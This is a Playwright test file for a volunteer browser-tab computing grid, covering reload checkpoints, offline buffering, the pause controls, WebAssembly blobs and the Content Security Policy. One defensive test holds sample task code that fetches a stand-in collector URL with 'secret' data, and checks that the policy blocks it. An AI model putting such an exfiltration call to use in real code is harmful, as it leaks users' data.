import type { BrowserContext, Page } from '@playwright/test';
import type { ItemResult, LogEntry, Stats, TaskStatus, WorkerStatus } from '../shared/index.js';
import { Tabgrid } from '../sdk/index.js';
import type { VolunteerStatus } from '../web-worker/page/status.js';
import { getJson, getLines } from './api.js';
import type { CoordinatorProcess } from './coordinator.js';
import { expect, test } from './fixtures.js';
import { consoleOf, idbRows, recordSentMessages } from './tabs.js';

/**
 * The volunteer's tab: progress kept in IndexedDB across a reload and a lost network, tabs of
 * one browser side by side, the page's controls, the Content Security Policy, and `ctx.wasm`.
 */

const grid = (coordinator: CoordinatorProcess): Tabgrid => new Tabgrid({ url: coordinator.url, token: coordinator.adminToken, pollIntervalMs: 100 });

function status(page: Page): Promise<VolunteerStatus | undefined> {
  return page.evaluate(() => window.tabgrid);
}

async function waitForState(page: Page, state: string, timeout = 30_000): Promise<void> {
  await expect.poll(async () => (await status(page))?.state, { timeout, message: `tab state ${state}` }).toBe(state);
}

async function logLines(coordinator: CoordinatorProcess, jobId: string): Promise<string[]> {
  return (await getLines<LogEntry>(coordinator, `/jobs/${jobId}/logs`)).map((line) => line.message);
}

async function joinIn(context: BrowserContext, joinUrl: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(joinUrl);
  await waitForState(page, 'connected');
  return page;
}

test.describe('a reloaded tab', () => {
  test.use({ coordinatorOptions: { leaseMs: 10_000 } });

  test('reclaims its lease and resumes its task from its checkpoint', async ({ coordinator, joinTabs }) => {
    const [tab] = await joinTabs(1);
    const code = `export default async (x, ctx) => {
      for (let step = ctx.restored?.step ?? 0; step < 12; step++) {
        ctx.log('step ' + step);
        await new Promise((r) => setTimeout(r, 150));
        await ctx.checkpoint({ step: step + 1 });
        ctx.progress((step + 1) / 12);
      }
      return 'all 12 steps';
    }`;
    const job = await grid(coordinator).submit({ name: 'twelve steps', code, input: { items: [1] } });
    await expect.poll(() => logLines(coordinator, job.id), { timeout: 30_000 }).toContain('step 4');
    const before = await status(tab!);
    expect(before?.tasks?.[0]?.jobId).toBe(job.id);

    await tab!.reload();
    await waitForState(tab!, 'connected');
    expect((await status(tab!))?.workerId).toBe(before?.workerId);

    expect((await job.wait({ timeoutMs: 60_000 })).state).toBe('COMPLETED');
    const results = await getLines<ItemResult>(coordinator, `/jobs/${job.id}/results`);
    expect(results).toEqual([{ index: 0, output: 'all 12 steps' }]);
    const steps = (await logLines(coordinator, job.id)).filter((line) => line.startsWith('step '));
    const runs = (step: number): number => steps.filter((line) => line === `step ${step}`).length;
    // Steps checkpointed before the reload ran once; the one the reload cut short at most twice.
    for (let step = 0; step < 4; step++) expect(runs(step), `step ${step}`).toBe(1);
    for (let step = 4; step < 12; step++) expect(runs(step), `step ${step}`).toBeGreaterThanOrEqual(1);
    expect(steps.length).toBeLessThanOrEqual(13);
    // The same lease went on: no second attempt, no lapse.
    const { tasks } = await getJson<{ tasks: TaskStatus[] }>(coordinator, `/jobs/${job.id}/tasks`);
    expect(tasks[0]).toMatchObject({ state: 'done', attempts: 1, lapses: 0 });
    expect(consoleOf(tab!).join('\n')).not.toContain('pageerror');
  });
});

test.describe('a tab that goes offline', () => {
  test.use({ coordinatorOptions: { leaseMs: 20_000 } });

  test('finishes its task, keeps the result in IndexedDB and uploads it once when back online', async ({ coordinator, joinTabs }) => {
    const [tab] = await joinTabs(1);
    const code = `export default async (x, ctx) => { ctx.log('started ' + x); await new Promise((r) => setTimeout(r, 4000)); return x * 2; }`;
    const job = await grid(coordinator).submit({ name: 'offline', code, input: { items: [21] } });
    await expect.poll(() => logLines(coordinator, job.id), { timeout: 30_000 }).toContain('started 21');

    await tab!.context().setOffline(true);
    // The open socket may look fine to the browser; the page gives it up on the 'offline' event.
    await expect.poll(async () => (await status(tab!))?.state, { timeout: 10_000 }).not.toBe('connected');
    await expect.poll(async () => (await status(tab!))?.unsent, { timeout: 30_000 }).toBe(1);
    const kept = await idbRows<{ leaseId: string; reportJson: string }>(tab!, 'outbox');
    expect(kept.map((row) => JSON.parse(row.reportJson) as unknown)).toEqual([{ type: 'result', leaseId: kept[0]?.leaseId, outputs: [42] }]);
    expect((await job.status()).progress.done).toBe(0);
    await expect(tab!.getByTestId('state')).toHaveText(/^reconnecting in \d+ s$/);
    await expect(tab!.getByTestId('retry')).toBeVisible();

    await tab!.context().setOffline(false);
    expect((await job.wait({ timeoutMs: 60_000 })).state).toBe('COMPLETED');
    expect(await getLines<ItemResult>(coordinator, `/jobs/${job.id}/results`)).toEqual([{ index: 0, output: 42 }]);
    const { tasks } = await getJson<{ tasks: TaskStatus[] }>(coordinator, `/jobs/${job.id}/tasks`);
    expect(tasks[0]).toMatchObject({ state: 'done', attempts: 1 });
    expect(await getJson<Stats>(coordinator, '/stats')).toMatchObject({ lateResults: 0, leaseLapses: 0 });
    await expect.poll(async () => (await status(tab!))?.tasksDone).toBe(1);
    await expect.poll(() => idbRows(tab!, 'outbox')).toEqual([]);
  });
});

test('two tabs of one browser, and a duplicate of one, work side by side as three workers', async ({ browser, coordinator }) => {
  const context = await browser.newContext();
  try {
    const first = await joinIn(context, coordinator.joinUrl);
    const second = await joinIn(context, coordinator.joinUrl);
    // A duplicated tab copies sessionStorage, and with it the first tab's key.
    const [duplicate] = await Promise.all([context.waitForEvent('page'), first.evaluate(() => void window.open(location.href))]);
    await waitForState(duplicate, 'connected');
    const tabs = [first, second, duplicate];
    const ids = await Promise.all(tabs.map(async (tab) => (await status(tab))?.workerId));
    expect(new Set(ids).size).toBe(3);

    const code = `export default async (x, ctx) => {
      await ctx.checkpoint({ seen: x });
      await new Promise((r) => setTimeout(r, 100));
      return { x, by: ctx.task.leaseId };
    }`;
    const items = Array.from({ length: 30 }, (_, index) => index);
    const job = await grid(coordinator).submit({ name: 'side by side', code, input: { items, chunkSize: 1 } });
    expect((await job.wait({ timeoutMs: 90_000 })).state).toBe('COMPLETED');
    const results = await getLines<ItemResult>(coordinator, `/jobs/${job.id}/results`);
    expect(results.map((result) => (result.output as { x: number }).x)).toEqual(items);

    const done = await Promise.all(tabs.map(async (tab) => (await status(tab))?.tasksDone ?? 0));
    expect(done.reduce((sum, count) => sum + count, 0)).toBe(30);
    expect(done[0]).toBeGreaterThan(0);
    expect(done[1]).toBeGreaterThan(0);
    // Each tab's identity row names its own worker and what it did; nothing is left held.
    await expect
      .poll(async () => {
        const rows = await idbRows<{ workerId: string; tasksDone: number }>(first, 'identities');
        return rows.map((row) => [row.workerId, row.tasksDone]).sort();
      })
      .toEqual(ids.map((id, index) => [id, done[index]]).sort());
    expect(await idbRows(first, 'leases')).toEqual([]);
    await expect.poll(() => idbRows(first, 'outbox')).toEqual([]);
  } finally {
    await context.close();
  }
});

test.describe('the pause control', () => {
  // Heartbeats every second: the paused tab's first one after a reload is what the test waits for.
  test.use({ coordinatorOptions: { heartbeatMs: 1000 } });

  test('pause on the page stops new tasks, and is remembered; resume and "only while visible" work too', async ({ coordinator, joinTabs }) => {
    const [tab] = await joinTabs(1);
    // Long enough (40 tasks of 300 ms, two at a time) that the pause lands mid-job however the
    // polls fall: 20 tasks of 200 ms were all done once, under load, before the click.
    const code = `export default async (x) => { await new Promise((r) => setTimeout(r, 300)); return x; }`;
    const job = await grid(coordinator).submit({ name: 'pausable', code, input: { items: Array.from({ length: 40 }, (_, i) => i), chunkSize: 1 } });
    await expect.poll(async () => (await job.status()).progress.done, { timeout: 30_000, intervals: [100] }).toBeGreaterThanOrEqual(2);

    await tab!.getByTestId('pause').click();
    await expect(tab!.getByTestId('pause')).toHaveText('Resume');
    await expect.poll(async () => (await status(tab!))?.tasks?.length, { timeout: 10_000 }).toBe(0);
    const workerId = (await status(tab!))?.workerId;
    expect((await status(tab!))?.state).toBe('paused');
    // Paused across a reload too: the choice is remembered.
    const sent = recordSentMessages(tab!);
    await tab!.reload();
    await waitForState(tab!, 'paused');
    const paused = (await job.status()).progress.done;
    expect(paused, 'the job is not done when it is paused').toBeLessThan(40);
    // A tab that asks does so when it is welcomed; its first heartbeat comes after, on the same
    // socket, so the coordinator would have leased it a task by the time it has that heartbeat.
    await sent.waitFor('heartbeat');
    expect(sent.types).not.toContain('ask');
    expect((await job.status()).progress.done).toBe(paused);
    const { workers } = await getJson<{ workers: WorkerStatus[] }>(coordinator, '/workers');
    expect(workers.find((worker) => worker.id === workerId)?.currentTasks).toEqual([]);

    await tab!.getByTestId('pause').click();
    await expect.poll(async () => (await job.status()).progress.done, { timeout: 30_000 }).toBeGreaterThan(paused);

    // Only while visible: hidden, it stops asking; visible again, it goes on.
    await tab!.getByTestId('visible-only').check();
    await setVisibility(tab!, 'hidden');
    await expect.poll(async () => (await status(tab!))?.pausedBecause, { timeout: 10_000 }).toBe('hidden');
    await expect(tab!.getByTestId('state')).toHaveText('paused while this tab is hidden');
    await setVisibility(tab!, 'visible');
    expect((await job.wait({ timeoutMs: 60_000 })).state).toBe('COMPLETED');
    expect(await tab!.evaluate(() => localStorage.getItem('tabgrid.settings'))).toBe(JSON.stringify({ paused: false, visibleOnly: true, cpuShare: 1, batteryFloor: 0.2 }));
  });
});

/** Headless tabs are always visible: the page is told otherwise. */
async function setVisibility(page: Page, state: DocumentVisibilityState): Promise<void> {
  await page.evaluate((visibility) => {
    Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => visibility });
    document.dispatchEvent(new Event('visibilitychange'));
  }, state);
}

test('task code reaches no network, not even the coordinator: the Content Security Policy blocks it and the job says so', async ({
  coordinator,
  joinTabs,
}) => {
  expect((await fetch(`${coordinator.url}/join`)).headers.get('content-security-policy')).toContain("connect-src 'self'");
  const [tab] = await joinTabs(1);
  const assets = await tab!.evaluate(() => performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => name.includes('/assets/')));
  expect(assets.length).toBeGreaterThan(0);
  for (const asset of assets) expect((await fetch(asset)).headers.get('content-security-policy')).toContain("connect-src 'none'");

  const code = `export default async (x, ctx) => {
    await fetch('/api/v1/health').then(() => ctx.log('own origin: reached'), () => ctx.log('own origin: blocked'));
    await fetch('http://127.0.0.2:9/collect?secret=' + x);
    return 'sent';
  }`;
  const job = await grid(coordinator).submit({ name: 'exfiltrate', code, input: { items: ['volunteer data'] }, retry: { maxAttempts: 1, distinctWorkers: 1 } });
  const failure = await job.wait({ timeoutMs: 60_000 }).catch((error: unknown) => error);
  expect(failure).toMatchObject({ name: 'JobFailedError' });
  const { state, error } = await job.status();
  expect(state).toBe('FAILED');
  expect(error?.message).toContain('blocked by the Content Security Policy');
  expect(error?.message).toContain('http://127.0.0.2:9/collect');
  const lines = await logLines(coordinator, job.id);
  expect(lines).toContain('own origin: blocked');
  expect(lines.some((line) => line.startsWith('blocked by the Content Security Policy: http://127.0.0.2:9/collect'))).toBe(true);
});

/** A WebAssembly module exporting `add(i32, i32) -> i32`, assembled by hand. */
const ADD_WASM = new Uint8Array([
  0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, // magic, version 1
  0x01, 0x07, 0x01, 0x60, 0x02, 0x7f, 0x7f, 0x01, 0x7f, // type section: (i32, i32) -> i32
  0x03, 0x02, 0x01, 0x00, // function section: one function of type 0
  0x07, 0x07, 0x01, 0x03, 0x61, 0x64, 0x64, 0x00, 0x00, // export section: "add" = function 0
  0x0a, 0x09, 0x01, 0x07, 0x00, 0x20, 0x00, 0x20, 0x01, 0x6a, 0x0b, // code: local.get 0, local.get 1, i32.add
]);

test('a job instantiates a WebAssembly blob with ctx.wasm, cached in the tab by SHA-256', async ({ coordinator, joinTabs }) => {
  const [tab] = await joinTabs(1);
  const tabgrid = grid(coordinator);
  const sha = await tabgrid.putBlob(ADD_WASM);
  const code = `export default async (x, ctx) => {
    const { exports } = await ctx.wasm(${JSON.stringify(sha)});
    return exports.add(x, 1000);
  }`;
  const job = await tabgrid.submit({ name: 'wasm add', code, input: { items: [1, 2, 3, 4], chunkSize: 2 } });
  expect((await job.wait({ timeoutMs: 60_000 })).state).toBe('COMPLETED');
  expect((await getLines<ItemResult>(coordinator, `/jobs/${job.id}/results`)).map((result) => result.output)).toEqual([1001, 1002, 1003, 1004]);
  const cached = await idbRows<{ sha: string; size: number }>(tab!, 'blobIndex');
  expect(cached).toContainEqual(expect.objectContaining({ sha, size: ADD_WASM.length }));

  // What the tab reported at join: the adapter, with its limits when there is one.
  const { workers } = await getJson<{ workers: WorkerStatus[] }>(coordinator, '/workers');
  const { capabilities } = workers[0]!;
  expect(capabilities).toMatchObject({ runtime: 'browser', userAgent: expect.stringContaining('Chrome') });
  expect(capabilities.hardwareConcurrency).toBeGreaterThan(0);
  if (capabilities.webgpu) expect(capabilities.limits?.['maxBufferSize']).toBeGreaterThan(0);
  await expect(tab!.getByTestId('adapter')).toHaveText(capabilities.webgpu ? `${capabilities.webgpu.vendor} ${capabilities.webgpu.architecture}`.trim() : 'none this browser lets web pages use');
});

test('a join link without its token says so in plain words, with no error code', async ({ browser, coordinator }) => {
  const page = await browser.newPage();
  try {
    await page.goto(`${coordinator.url}/join`);
    await expect(page.getByTestId('problem')).toContainText('This link has no join token. Ask whoever runs the grid for a join link');
    await expect(page.getByTestId('problem-detail')).toBeHidden();
    await expect(page.getByTestId('state')).toHaveText('no join token');
  } finally {
    await page.context().close();
  }
});

test('without IndexedDB the tab says so and keeps working', async ({ browser, coordinator }) => {
  const context = await browser.newContext();
  try {
    await context.addInitScript(() => Object.defineProperty(window, 'indexedDB', { get: () => undefined }));
    const tab = await joinIn(context, coordinator.joinUrl);
    await expect(tab.getByTestId('storage')).toHaveText('This browser keeps nothing for this page (a private window, or site data turned off): a reload loses the task in hand.');
    // The browser's own words stay in reach: the line's tooltip and the log.
    await expect(tab.getByTestId('storage')).toHaveAttribute('title', /IndexedDB/);
    await expect(tab.getByTestId('log')).toContainText('working without persistence: ');
    expect((await status(tab))?.storage).toBe('memory');
    const job = await grid(coordinator).submit({ name: 'no storage', code: 'export default (x) => x + 1', input: { items: [1, 2] } });
    expect((await job.wait({ timeoutMs: 60_000 })).state).toBe('COMPLETED');
  } finally {
    await context.close();
  }
});
